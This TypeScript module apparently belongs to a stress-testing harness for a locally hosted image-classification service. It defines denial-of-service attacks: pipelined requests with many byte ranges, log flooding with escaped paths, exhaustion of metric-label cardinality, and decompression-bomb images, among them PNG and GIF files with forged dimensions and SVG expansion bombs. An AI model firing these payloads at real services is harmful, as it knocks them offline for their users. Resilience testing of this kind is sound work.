/** Pages, log lines and images: what any client may ask for without a key. */

import sharp from "sharp";
import type { Attack } from "../attack.ts";
import { type Call, repeatCalls } from "../http1-calls.ts";
import { closed, send, type Target } from "../target.ts";

const host = "host: localhost\r\n";

/** Sends many requests at once on each connection, and reads what comes. */
async function pipelined(target: Target, connections: number, request: string): Promise<void> {
  const requests = request.repeat(500);
  await target.repeat(connections, async () => {
    const socket = await target.connect();
    if (socket === undefined) return;
    socket.resume();
    while (await send(socket, requests));
    await closed(socket, { reads: true });
  });
}

const manyRanges = Array.from({ length: 1000 }, (_, index) => `${2 * index}-${2 * index}`);
const pages = ["/metrics", "/openapi.json", "/docs"].map((path) => `GET ${path} HTTP/1.1\r\n`);
const ranged = pages.map((line) => `${line}${host}range: bytes=${manyRanges.join(",")}\r\n\r\n`);
/** A path that has to be escaped wherever it is written, unknown to every route. */
const unknownPath = `/${'%22%0a\\"'.repeat(1500)}`;

function black(side: number) {
  const create = { width: side, height: side, channels: 3, background: "black" } as const;
  return sharp({ create, limitInputPixels: false });
}

/** The size that a file claims, in place of its own. */
function claiming(file: Buffer, at: number, bytes: Buffer): Buffer {
  const copy = Buffer.from(file);
  bytes.copy(copy, at);
  return copy;
}

/** A GIF of one pixel that says it has 65,535 × 65,535, and one of many frames. */
function gifs(): Buffer[] {
  const head = Buffer.from("GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff", "latin1");
  const frame = Buffer.from("\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\x02\x44\x01\0", "latin1");
  return [
    Buffer.concat([head, frame, Buffer.from(";")]),
    Buffer.concat([head, Buffer.concat(Array<Buffer>(200_000).fill(frame)), Buffer.from(";")]),
  ];
}

/** Vector images that grow while they are drawn. */
function svgs(): Buffer[] {
  const uses = Array.from({ length: 20 }, (_, level) => {
    const inner = `<use href="#g${level}"/>`.repeat(10);
    return `<g id="g${level + 1}">${inner}</g>`;
  });
  const open = '<svg xmlns="http://www.w3.org/2000/svg" width="20000" height="20000">';
  return [
    Buffer.from(`${open}<rect id="g0" width="9" height="9"/>${uses.join("")}</svg>`),
    Buffer.from(`${open}${"<g>".repeat(500_000)}${"</g>".repeat(500_000)}</svg>`),
  ];
}

/** Images that are small files and large pictures. */
async function imageCalls(): Promise<Call[]> {
  const large = black(12_000);
  const png = await large.clone().png().toBuffer();
  const files = [
    png,
    claiming(png, 16, Buffer.from("7fffffff7fffffff", "hex")),
    await large.clone().webp({ lossless: true, effort: 0 }).toBuffer(),
    await black(4000).avif({ effort: 0, lossless: true }).toBuffer(),
    await large.clone().tiff({ compression: "deflate" }).toBuffer(),
    await large.clone().jpeg({ progressive: true }).toBuffer(),
    ...gifs(),
    ...svgs(),
  ];
  return files.map((file) => ({
    path: "/predict/digits",
    headers: { "content-type": "application/json" },
    body: Buffer.from(JSON.stringify({ file: file.toString("base64") })),
  }));
}

/** Attacks with what needs no key, or is no call. */
export const pageAttacks: readonly Attack[] = [
  {
    name: "pages",
    about: "HTTP/1.1: /metrics, /openapi.json and /docs without pause, a thousand ranges each",
    run: (target) => pipelined(target, 12, ranged.join("")),
  },
  {
    name: "log-lines",
    about: "HTTP/1.1: long unknown paths without pause, while nobody reads the log",
    logIsUnread: true,
    run: (target) => pipelined(target, 12, `GET ${unknownPath} HTTP/1.1\r\n${host}\r\n`),
  },
  {
    name: "labels",
    about: "HTTP/1.1: a method, path, user agent and request id of its own in each request",
    run: async (target) => {
      let count = 0;
      await target.repeat(12, async () => {
        const socket = await target.connect();
        if (socket === undefined) return;
        socket.resume();
        let goesOn = true;
        while (goesOn) {
          count += 1;
          const request = [
            `POST /polygate.v1.S${count}/M${count} HTTP/1.1`,
            "host: localhost",
            `user-agent: u${count}`,
            `x-request-id: ${count}-${"a".repeat(100)}`,
            "content-type: application/proto",
            "content-length: 0",
            "\r\n",
          ];
          goesOn = await send(socket, request.join("\r\n"));
        }
      });
    },
  },
  {
    name: "images",
    about: "small files of large pictures: PNG, WebP, AVIF, TIFF, JPEG, GIF, SVG",
    run: async (target) => repeatCalls(target, 4, await imageCalls()),
  },
];
